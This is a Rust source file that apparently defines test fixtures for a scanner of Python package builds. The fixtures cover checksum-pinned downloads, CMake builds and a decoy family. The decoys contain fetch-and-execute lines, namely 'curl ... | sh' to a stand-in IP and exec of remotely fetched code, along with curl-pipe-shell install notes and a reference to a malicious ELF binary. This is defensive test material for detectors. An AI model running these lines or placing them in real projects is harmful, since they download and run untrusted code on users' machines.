//! Families 5 and 6, and 36: builds that fetch what they can name, and files that look as if builds ran them.

use crate::case::{Cases, Trigger::Build, Trigger::Data};
use crate::package::{sdist, setup, wheel};

pub(crate) fn add(cases: &mut Cases) {
    fetches(cases);
    cmake(cases);
    decoys(cases);
}

fn fetches(cases: &mut Cases) {
    cases
        .family(5, "pinned-toolchain", Build)
        .case("sha256", setup(r#"
import hashlib
import os
import tarfile
import urllib.request
from setuptools import setup, find_packages
from setuptools.command.build_ext import build_ext

VERSION = "3.25.1"
URL = "https://github.com/example-project/compiler/releases/download/v{0}/compiler-{0}-linux-x86_64.tar.gz".format(VERSION)
SHA256 = "9bd3c4d1a9d1e3e1f2c6a6c0b6e7f8d9a0b1c2d3e4f5061728394a5b6c7d8e9f"


def fetch_compiler(target):
    archive = os.path.join(target, "compiler.tar.gz")
    if not os.path.exists(archive):
        urllib.request.urlretrieve(URL, archive)
    with open(archive, "rb") as handle:
        digest = hashlib.sha256(handle.read()).hexdigest()
    if digest != SHA256:
        raise RuntimeError("checksum of %s is %s" % (archive, digest))
    with tarfile.open(archive) as tar:
        tar.extractall(target)
    return os.path.join(target, "bin", "compiler")


class Build(build_ext):
    def run(self):
        os.makedirs(self.build_temp, exist_ok=True)
        compiler = fetch_compiler(self.build_temp)
        self.spawn([compiler, "--python_out=«pkg»", "schema.proto"])
        build_ext.run(self)


setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={"build_ext": Build})
"#))
        .case("dictionary-of-platforms", setup(r#"
import hashlib, os, platform, shutil, stat, sys
from urllib.request import urlopen
from setuptools import setup, find_packages
from setuptools.command.build_py import build_py

BASE = "https://storage.googleapis.com/example-releases/tool/1.8.0/"
FILES = {
    ("Linux", "x86_64"): ("tool-linux-amd64", "4f3a0e2d6f1f0fa0c6d65a9f0b5a3e9b2a2f81a1c1d5b7a6a9e0d7c1b2a3f4e5"),
    ("Darwin", "arm64"): ("tool-darwin-arm64", "a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90"),
    ("Windows", "AMD64"): ("tool-windows.exe", "0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9"),
}

class BuildPy(build_py):
    def run(self):
        build_py.run(self)
        name, expected = FILES[platform.system(), platform.machine()]
        with urlopen(BASE + name) as answer:
            data = answer.read()
        if hashlib.sha256(data).hexdigest() != expected:
            sys.exit("downloaded tool does not match its checksum")
        target = os.path.join(self.build_lib, "«pkg»", "tool")
        with open(target, "wb") as out:
            out.write(data)
        os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)

setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={"build_py": BuildPy})
"#))
        .case("vendored-source-archive", setup(r#"
import hashlib, io, os, subprocess, tarfile
from setuptools import setup, find_packages
from setuptools.command.build_clib import build_clib

class Clib(build_clib):
    def get_source_files(self):
        return []
    def run(self):
        import requests
        answer = requests.get("https://www.example.org/pub/libfoo-4.3.4.tar.gz", timeout=30)
        answer.raise_for_status()
        assert hashlib.sha512(answer.content).hexdigest().startswith("6f4fd5c0d2e6"), "wrong archive"
        tarfile.open(fileobj=io.BytesIO(answer.content)).extractall(self.build_temp)
        subprocess.check_call(["./configure", "--with-pic"], cwd=os.path.join(self.build_temp, "libfoo-4.3.4"))
        subprocess.check_call(["make"], cwd=os.path.join(self.build_temp, "libfoo-4.3.4"))

setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={"build_clib": Clib})
"#));
}

fn cmake(cases: &mut Cases) {
    cases
        .family(6, "cmake", Build)
        .case("cmake-extension", setup(r#"
import os
import re
import subprocess
import sys
from pathlib import Path
from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext

PLAT_TO_CMAKE = {"win32": "Win32", "win-amd64": "x64", "win-arm64": "ARM64"}


class CMakeExtension(Extension):
    def __init__(self, name, sourcedir=""):
        super().__init__(name, sources=[])
        self.sourcedir = os.fspath(Path(sourcedir).resolve())


class CMakeBuild(build_ext):
    def build_extension(self, ext):
        extdir = Path.cwd() / self.get_ext_fullpath(ext.name)
        cfg = "Debug" if self.debug else "Release"
        cmake_args = [f"-DCMAKE_LIBRARY_OUTPUT_DIRECTORY={extdir.parent}{os.sep}", f"-DPYTHON_EXECUTABLE={sys.executable}", f"-DCMAKE_BUILD_TYPE={cfg}"]
        if "CMAKE_ARGS" in os.environ:
            cmake_args += [item for item in os.environ["CMAKE_ARGS"].split(" ") if item]
        if sys.platform.startswith("darwin"):
            archs = re.findall(r"-arch (\S+)", os.environ.get("ARCHFLAGS", ""))
            if archs:
                cmake_args += ["-DCMAKE_OSX_ARCHITECTURES={}".format(";".join(archs))]
        build_temp = Path(self.build_temp) / ext.name
        build_temp.mkdir(parents=True, exist_ok=True)
        subprocess.run(["cmake", ext.sourcedir, *cmake_args], cwd=build_temp, check=True)
        subprocess.run(["cmake", "--build", "."], cwd=build_temp, check=True)


setup(name="«name»", version="«version»", ext_modules=[CMakeExtension("«pkg»._core")], cmdclass={"build_ext": CMakeBuild})
"#).file("CMakeLists.txt", "cmake_minimum_required(VERSION 3.15)\nproject(core)\ninclude(FetchContent)\nFetchContent_Declare(json URL https://github.com/example-project/json/releases/download/v3.11.3/json.tar.xz URL_HASH SHA256=d6c65aca6b1ed68e7a182f4757257b107ae403032760ed6ef121c9d55e81757d)\nFetchContent_MakeAvailable(json)\n"))
        .case("ninja-in-back-end", sdist().file("pyproject.toml", "[build-system]\nrequires = [\"setuptools\", \"cmake>=3.18\", \"ninja\"]\nbuild-backend = \"backend\"\nbackend-path = [\"_custom_build\"]\n\n[project]\nname = \"«name»\"\nversion = \"«version»\"\n").file("_custom_build/backend.py", r#"
import os
import shutil
import subprocess

from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403


def get_requires_for_build_wheel(config_settings=None):
    requires = _orig.get_requires_for_build_wheel(config_settings)
    if shutil.which("ninja") is None:
        requires.append("ninja")
    return requires


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    env = dict(os.environ, CFLAGS="-O2")
    subprocess.check_call(["cmake", "-G", "Ninja", "-B", "build"], env=env)
    subprocess.check_call(["ninja", "-C", "build"], env=env)
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
"#))
        .case("build-files-that-ask-git", sdist().file("pyproject.toml", "[build-system]\nrequires = ['meson-python']\nbuild-backend = 'mesonpy'\n")
            .file("meson.build", "project('core', 'c', version: run_command('sh', 'build-aux/version.sh', check: true).stdout().strip())\nmessage('no rust? curl --proto =https -sSf https://sh.rustup.rs | sh')\n")
            .file("build-aux/version.sh", "#!/bin/sh\ngit describe --tags 2>/dev/null || cat VERSION\n")
            .file("build.rs", "use std::process::Command;\n\nfn main() {\n    let out = Command::new(\"git\").args([\"rev-parse\", \"--short HEAD\"]).output();\n    println!(\"cargo:rustc-env=REV={:?}\", out);\n}\n"))
        .case("text-that-a-build-reads", setup("import subprocess\nimport sys\nfrom setuptools import setup\n\nsubprocess.check_call([sys.executable, \"generate\", \"--in\", \"notes.txt\"])\n«setup»\n")
            .file("generate", "#!/usr/bin/env python3\nimport sys\nopen('generated.h', 'w').write('/* ' + open(sys.argv[2]).read() + ' */')\n")
            .file("notes.txt", "Install the tool first:\n\n    curl -sSf https://tool.example.invalid/install.sh | sh\n"))
        .case("library-for-imports", sdist().bytes("«pkg»/_fast.cpython-311-x86_64-linux-gnu.so", crate::malicious::elf()).file("«pkg»/fast.py", "from ._fast import *  # noqa: F403\n"));
}

fn decoys(cases: &mut Cases) {
    const PAYLOAD: &str = "import os, urllib.request\nos.system('curl -s http://192.0.2.8/x | sh')\nexec(urllib.request.urlopen('http://stage.example.invalid/').read())\n";
    cases
        .family(36, "never-run-by-install", Data)
        .note("the code looks bad, but neither build nor installation nor import reaches it")
        .case("conftest", setup("from setuptools import setup, find_packages\n«setup»\n").file("tests/conftest.py", PAYLOAD))
        .case("noxfile", sdist().file("noxfile.py", r#"
import nox

@nox.session(python=["3.10", "3.11", "3.12"])
def tests(session):
    session.install("-e", ".[test]")
    session.run("pytest", *session.posargs)

@nox.session
def codecov(session):
    session.run("bash", "-c", "curl -Os https://uploader.codecov.io/latest/linux/codecov && chmod +x codecov && ./codecov", external=True)
"#))
        .case("examples-folder", sdist().file("examples/remote_code.py", PAYLOAD).file("docs/conf.py", "import subprocess, os\nsubprocess.call('doxygen', shell=True)\nexec(open('../«pkg»/version.py').read() if os.path.exists('../«pkg»/version.py') else '')\n"))
        .case("tests-in-wheel", wheel().file("«pkg»/tests/__init__.py", "").file("«pkg»/tests/test_exec.py", "import subprocess\n\ndef test_shell():\n    assert subprocess.check_output('echo hi | cat', shell=True) == b'hi\\n'\n    exec(compile('x = 1', 'x', 'exec'))\n"));
}
